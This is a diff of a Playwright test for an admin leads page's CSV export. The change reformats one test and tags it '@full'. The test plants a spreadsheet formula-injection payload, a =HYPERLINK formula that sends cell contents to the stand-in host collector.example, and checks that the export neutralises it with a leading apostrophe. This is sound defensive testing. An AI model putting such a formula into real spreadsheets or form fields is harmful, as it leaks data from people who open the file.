@@ -192,54 +192,54 @@ function parse(csv: string): string[][] {
   return lines.slice(0, -1)
 }
 
-test('the list is exported for spreadsheets, completely and without formulas', async ({
-  page,
-  giftwell,
-  request,
-}) => {
-  const word = newWord(giftwell)
-  const email = giftwell.newAddress('exported')
-  await send(request, {
-    name: '=HYPERLINK("https://collector.example/?"&B1,"Prices")',
-    company: `Ünïque, "${word}" & Søns 🎁`,
-    email,
-    message: 'one\ntwo; three',
-    selected_products: ['Mug, tall', 'Pen'],
-  })
-  await send(request, { name: 'Plain', company: word, email })
-  await openLeads(page, `/admin/leads?search=${word}`)
-  await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()
-  const downloading = page.waitForEvent('download')
-  await page.getByRole('button', { name: 'Export to CSV' }).click()
-  const download = await downloading
-  await expect(page.getByRole('status').filter({ hasText: '2 leads exported' })).toBeVisible()
-  expect(download.suggestedFilename()).toMatch(/^giftwell-leads-\d{4}-\d{2}-\d{2}\.csv$/)
-
-  const bytes = await readFile(await download.path())
-  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
-  const date: unknown = expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/)
-  const reference: unknown = expect.stringMatching(/^GW-[\dA-F]{8}$/)
-  const none = ['', '', '', '', '']
-  const unhandled = ['New', '', '']
-  expect(parse(bytes.subarray(3).toString('utf8'))).toEqual([
-    'Name,Company,Email,Phone,Products,Message,Date,Quantities and notes,Needed by,Budget per gift,Delivery city,Branding,Reference,State,Assigned to,Notes'.split(
-      ',',
-    ),
-    ['Plain', word, email, '+91 98765 43210', '', '', date, ...none, reference, ...unhandled],
-    [
-      `'=HYPERLINK("https://collector.example/?"&B1,"Prices")`,
-      `Ünïque, "${word}" & Søns 🎁`,
+test(
+  'the list is exported for spreadsheets, completely and without formulas',
+  { tag: '@full' },
+  async ({ page, giftwell, request }) => {
+    const word = newWord(giftwell)
+    const email = giftwell.newAddress('exported')
+    await send(request, {
+      name: '=HYPERLINK("https://collector.example/?"&B1,"Prices")',
+      company: `Ünïque, "${word}" & Søns 🎁`,
       email,
-      '+91 98765 43210',
-      'Mug, tall; Pen',
-      'one\ntwo; three',
-      date,
-      ...none,
-      reference,
-      ...unhandled,
-    ],
-  ])
-})
+      message: 'one\ntwo; three',
+      selected_products: ['Mug, tall', 'Pen'],
+    })
+    await send(request, { name: 'Plain', company: word, email })
+    await openLeads(page, `/admin/leads?search=${word}`)
+    await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()
+    const downloading = page.waitForEvent('download')
+    await page.getByRole('button', { name: 'Export to CSV' }).click()
+    const download = await downloading
+    await expect(page.getByRole('status').filter({ hasText: '2 leads exported' })).toBeVisible()
+    expect(download.suggestedFilename()).toMatch(/^giftwell-leads-\d{4}-\d{2}-\d{2}\.csv$/)
+
+    const bytes = await readFile(await download.path())
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+    const date: unknown = expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/)
+    const reference: unknown = expect.stringMatching(/^GW-[\dA-F]{8}$/)
+    const none = ['', '', '', '', '']
+    const unhandled = ['New', '', '']
+    expect(parse(bytes.subarray(3).toString('utf8'))).toEqual([
+      'Name,Company,Email,Phone,Products,Message,Date,Quantities and notes,Needed by,Budget per gift,Delivery city,Branding,Reference,State,Assigned to,Notes'.split(
+        ',',
+      ),
+      ['Plain', word, email, '+91 98765 43210', '', '', date, ...none, reference, ...unhandled],
+      [
+        `'=HYPERLINK("https://collector.example/?"&B1,"Prices")`,
+        `Ünïque, "${word}" & Søns 🎁`,
+        email,
+        '+91 98765 43210',
+        'Mug, tall; Pen',
+        'one\ntwo; three',
+        date,
+        ...none,
+        reference,
+        ...unhandled,
+      ],
+    ])
+  },
+)
 
 test(
   'two administrators see a new inquiry, which one takes and answers by a template',
